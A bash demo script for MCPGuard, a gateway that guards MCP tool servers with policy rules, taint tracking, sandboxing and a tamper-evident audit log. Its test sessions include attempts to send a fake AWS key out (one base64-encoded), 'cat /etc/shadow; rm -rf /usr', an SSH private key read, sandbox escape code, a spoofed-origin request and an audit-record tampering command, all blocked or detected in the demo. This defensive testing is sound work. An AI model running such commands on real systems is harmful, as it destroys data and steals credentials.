#!/usr/bin/env bash
# Sets everything up, then runs MCPGuard in front of three real MCP servers and drives
# sessions through it with the official TypeScript (2025-11-25) and Python (2026-07-28)
# SDK clients. Everything listens on loopback and is stopped at the end.
set -euo pipefail
cd "$(dirname "$0")/.."
root=$(pwd)

bash scripts/setup.sh
echo "==> building mcpguard" >&2
cargo build --locked --quiet --bin mcpguard

demo=$root/.mcpguard-demo
rm -rf "$demo" && mkdir -p "$demo/files"
echo "quarterly numbers: 42" > "$demo/files/report.txt"
# A fake AWS key (format-valid, random) for the taint demo.
printf '[default]\naws_access_key_id = AKIAQ3ZRT7WX2YUV4ABC\n' > "$demo/files/secrets.env"
py=$root/.venv/bin/python
peers=$root/tests/peers
pids=()
cleanup() { for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done; wait 2>/dev/null || true; }
trap cleanup EXIT

free_port() { "$py" -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }

# Upstream 3: the reference server over Streamable HTTP.
ev_port=$(free_port)
PORT=$ev_port "$peers/node_modules/.bin/mcp-server-everything" streamableHttp >"$demo/everything.log" 2>&1 &
pids+=($!)

# A loopback receiver that records what the http_post tool sends.
rx_port=$(free_port)
"$py" - "$rx_port" "$demo/received.txt" <<'PY' &
import http.server, sys
port, out = int(sys.argv[1]), sys.argv[2]
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("content-length", 0)))
        open(out, "ab").write(body + b"\n")
        self.send_response(200); self.end_headers()
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", port), H).serve_forever()
PY
pids+=($!)

# The strict OWASP ASI set, plus an allow-list entry for the demo servers' own tools.
cat >"$demo/demo-allow.yaml" <<YAML
rules:
  - id: DEMO-ALLOW
    name: The demo servers' harmless tools
    action: allow
    priority: 900
    tool_patterns: ["get-sum", "trigger-*", "ask_user", "echo"]
YAML

cat >"$demo/config.yaml" <<YAML
proxy:
  port: 0
upstreams:
  echo:            # Python SDK server over stdio (speaks 2026-07-28 and 2025-11-25)
    command: $py
    args: [$peers/py_echo_server.py, --transport, stdio]
  fs:              # the reference filesystem server over stdio, run inside a native sandbox
    command: $peers/node_modules/.bin/mcp-server-filesystem
    args: [$demo/files]
    sandbox: {profile: fs}   # it sees only the system directories, its code and files/
  ev:              # the reference "everything" server over Streamable HTTP
    transport: http
    url: http://127.0.0.1:$ev_port/mcp
  net:             # a Python SDK server with network tools (http_post, fetch, shell_exec)
    command: $py
    args: [$peers/py_net_tools.py]
sandbox:
  backend: native
  run_code: {enabled: true, languages: [python, shell]}   # the built-in mcpguard.run_code tool
  code_tools:      # the policy's sandbox action runs this tool's code here, not upstream
    net__shell_exec: {language: shell, code: /command}
  profiles:
    default: {wall_time_seconds: 3, memory_mb: 128}
    fs:
      mounts:
        - {source: $peers/node_modules}
        - {source: $demo/files, writable: true}
policy:
  policy_paths: [$root/policies/owasp_asi_2026_strict.yaml, $demo/demo-allow.yaml]
taint:
  untrusted_tools: [fetch]
audit:
  enabled: true
  path: $demo/audit.db
  signing_key: $demo/keys/signing.key
  origin: mcpguard-demo/audit
  checkpoint_interval_seconds: 1
envelopes:
  payloads: encrypt
  payload_key: $demo/keys/payload.key
YAML
target/debug/mcpguard keygen --dir "$demo/keys" --payload-key >/dev/null
# Root inside a sandbox is an unprivileged user outside (nobody, when the gateway runs as
# root): the folder the confined filesystem server writes to must be theirs.
if [ "$(id -u)" = 0 ]; then chown -R 65534:65534 "$demo/files"; fi

echo "==> starting: mcpguard serve --config $demo/config.yaml" >&2
target/debug/mcpguard serve --config "$demo/config.yaml" >"$demo/stdout" 2>"$demo/gateway.log" &
pids+=($!)
for _ in $(seq 100); do grep -q listening "$demo/stdout" 2>/dev/null && break; sleep 0.1; done
url=$(sed -n 's/^listening on //p' "$demo/stdout")
port=${url##*:}; port=${port%/mcp}
for _ in $(seq 300); do curl -sf "http://127.0.0.1:$port/readyz" >/dev/null && break; sleep 0.1; done
echo; echo "gateway: $url"; curl -s "http://127.0.0.1:$port/readyz" | "$py" -m json.tool; echo

view() { "$py" "$root/scripts/demo_view.py"; }

echo "=== Session 1: TypeScript SDK client (protocol 2025-11-25), four upstreams behind one endpoint (tools the policy never allows are hidden)"
node "$peers/ts_client.mjs" --url "$url" --sample-text "Sure, here is a summary." --elicit-json '{"name":"Ann","check":true,"email":"ann@example.com","integer":7}' '[
  {"op":"list_tools"},
  {"op":"call_tool","name":"fs__read_text_file","arguments":{"path":"'"$demo"'/files/report.txt"}},
  {"op":"call_tool","name":"fs__write_file","arguments":{"path":"'"$demo"'/files/note.txt","content":"written through mcpguard"}},
  {"op":"call_tool","name":"fs__read_text_file","arguments":{"path":"/etc/hostname"}},
  {"op":"call_tool","name":"ev__get-sum","arguments":{"a":20,"b":22}},
  {"op":"call_tool","name":"ev__trigger-long-running-operation","arguments":{"duration":1,"steps":3}},
  {"op":"call_tool","name":"ev__trigger-sampling-request","arguments":{"prompt":"summarise","maxTokens":20}},
  {"op":"call_tool","name":"echo__echo","arguments":{"message":"hello from TypeScript"}}
]' | view

echo; echo "=== Session 2: Python SDK client (protocol 2026-07-28, stateless), same endpoint"
"$py" "$peers/py_client.py" --url "$url" --elicit-json '{"value":"green"}' '[
  {"op":"call_tool","name":"echo__ask_user","arguments":{"question":"Favourite colour?"}},
  {"op":"call_tool","name":"echo__add","arguments":{"a":2,"b":3}},
  {"op":"read_resource","uri":"echo://static"},
  {"op":"call_tool","name":"ev__get-sum","arguments":{"a":1,"b":1}}
]' | view

echo; echo "=== Session 3: the guard (policy owasp_asi_2026_strict.yaml, taint tracking), Python SDK client"
echo "    read a file holding an AWS key, then try to send it out three ways; run a shell command (in the sandbox)"
b64=$(printf 'AWS key: AKIAQ3ZRT7WX2YUV4ABC' | base64)
"$py" "$peers/py_client.py" --url "$url" --mode legacy '[
  {"op":"call_tool","name":"fs__read_text_file","arguments":{"path":"'"$demo"'/files/secrets.env"}},
  {"op":"call_tool","name":"net__http_post","arguments":{"url":"http://127.0.0.1:'"$rx_port"'/in","body":"backup AKIAQ3ZRT7WX2YUV4ABC"}},
  {"op":"call_tool","name":"net__http_post","arguments":{"url":"http://127.0.0.1:'"$rx_port"'/in","body":"lowercased akiaq3zrt7wx2yuv4abc"}},
  {"op":"call_tool","name":"net__http_post","arguments":{"url":"http://127.0.0.1:'"$rx_port"'/in","body":"'"$b64"'"}},
  {"op":"call_tool","name":"net__http_post","arguments":{"url":"http://127.0.0.1:'"$rx_port"'/in","body":"meeting moved to 3pm"}},
  {"op":"call_tool","name":"net__shell_exec","arguments":{"command":"cat /etc/shadow; rm -rf /usr 2>&1 | tail -n 1; hostname"}},
  {"op":"call_tool","name":"fs__read_text_file","arguments":{"path":"/home/agent/.ssh/id_ed25519"}}
]' | view
echo "  what the receiver got: $(tr '\n' '|' < "$demo/received.txt" 2>/dev/null)"

echo; echo "=== Session 4: mcpguard.run_code (strict policy rule ASI05-001 sends it to the native sandbox)"
"$py" "$peers/py_client.py" --url "$url" --mode legacy '[
  {"op":"call_tool","name":"mcpguard.run_code","arguments":{"language":"python","code":"import platform; print(sum(range(101)), platform.node())"}},
  {"op":"call_tool","name":"mcpguard.run_code","arguments":{"language":"python","code":"import socket; socket.create_connection((\"127.0.0.1\", '"$port"'))"}},
  {"op":"call_tool","name":"mcpguard.run_code","arguments":{"language":"shell","code":"ls /root; cat '"$demo"'/files/secrets.env"}},
  {"op":"call_tool","name":"mcpguard.run_code","arguments":{"language":"python","code":"x = bytearray(1 << 30)"}},
  {"op":"call_tool","name":"mcpguard.run_code","arguments":{"language":"shell","code":"while :; do :; done"}}
]' | view

echo; echo "=== Protection at the edge (raw HTTP)"
hdr=(-H 'content-type: application/json' -H 'accept: application/json, text/event-stream' -H 'mcp-protocol-version: 2026-07-28' -H 'mcp-method: tools/call')
echo "- a call that names two different tools (duplicate JSON key), refused before any upstream sees it:"
curl -s "${hdr[@]}" -H 'mcp-name: fs__read_text_file' "$url" -d '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"fs__read_text_file","name":"fs__write_file","arguments":{}}}' -w '  (HTTP %{http_code})\n'
echo "- a browser page from another origin (DNS rebinding), refused:"
curl -s "${hdr[@]}" -H 'origin: http://evil.example' "$url" -d '{}' -w '  (HTTP %{http_code})\n'
echo "- a 2026-07-28 request whose Mcp-Name header disagrees with its body, refused:"
curl -s "${hdr[@]}" -H 'mcp-name: echo__echo' "$url" -d '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"fs__write_file","arguments":{},"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}}}' -w '  (HTTP %{http_code})\n'

echo; echo "=== The gateway's call log (one line per call; arguments and results are never logged)"
grep ' call ' "$demo/gateway.log" | tail -n 8
echo; echo "=== The guard's decisions (rule, OWASP id, labels, finding type@location#digest; never the value)"
grep ' decision ' "$demo/gateway.log" | grep -v 'action="allow"\|action=allow' | tail -n 8

echo; echo "=== The tamper-evident audit log: every call, newest first (mcpguard audit-query)"
kill -TERM "${pids[-1]}"; wait "${pids[-1]}" 2>/dev/null || true   # a clean stop signs the final checkpoint
mg() { target/debug/mcpguard "$@" --db "$demo/audit.db"; }
echo "- denied calls:"; mg audit-query --limit 12 --action deny
echo; echo "- sandboxed runs (how each ended is in the event's sandbox record):"; mg audit-query --limit 6 --action sandbox
mg audit-query --limit 6 --action sandbox --format json | "$py" "$root/scripts/demo_view.py" --sandbox-events
echo; echo "- the newest 8 events of any kind:"
mg audit-query --limit 8
echo; echo "=== mcpguard audit-verify (hash chain, Merkle tree, signed checkpoints)"
mg audit-verify --public-key "$demo/keys/signing.pub" --key-name mcpguard-demo/audit
echo; echo "=== ...after someone edits a record with the sqlite3 tool"
cp "$demo/audit.db" "$demo/tampered.db"
sqlite3 "$demo/tampered.db" "DROP TRIGGER audit_events_no_update; UPDATE audit_events SET data = replace(data, '\"outcome\":\"denied\"', '\"outcome\":\"allowed\"') WHERE seq = (SELECT min(seq) FROM audit_events WHERE outcome = 'denied');"
target/debug/mcpguard audit-verify --db "$demo/tampered.db" --public-key "$demo/keys/signing.pub" --key-name mcpguard-demo/audit || true
echo; echo "=== For a SIEM: mcpguard audit-export --format cef (denied calls)"
mg audit-export --format cef --action denied | head -n 2

echo; echo "=== Signed execution envelopes of executed calls (mcpguard trace-list)"
mg trace-list --limit 5
trace=$(mg trace-list --tool fs__read_text_file --limit 20 | awk 'END {print $1}')   # the oldest: session 1 read report.txt
echo; echo "=== mcpguard trace-verify $trace"
target/debug/mcpguard --config "$demo/config.yaml" trace-verify "$trace"
echo; echo "=== the same bundle checked by the official Sigstore verifier (@sigstore/verify, npm)"
mg trace-export "$trace" > "$demo/bundle.json"
(cd "$peers" && node sigstore_verify.mjs "$demo/bundle.json" "$demo/keys/signing.pub")
echo; echo "=== mcpguard replay $trace (re-run through the gateway, compare with the signed result)"
target/debug/mcpguard --config "$demo/config.yaml" replay "$trace" || true
echo "    ...after the file changes:"
echo "quarterly numbers: 43" > "$demo/files/report.txt"
target/debug/mcpguard --config "$demo/config.yaml" replay "$trace" || true
echo
echo "Not shown here (each has its own tests and docs; see README.md's status table):"
echo "authentication (API keys, JWT), rate limits, /metrics, OpenTelemetry traces, replicas"
echo "sharing state in Redis, and the wasm, docker, firecracker and microsandbox sandboxes."
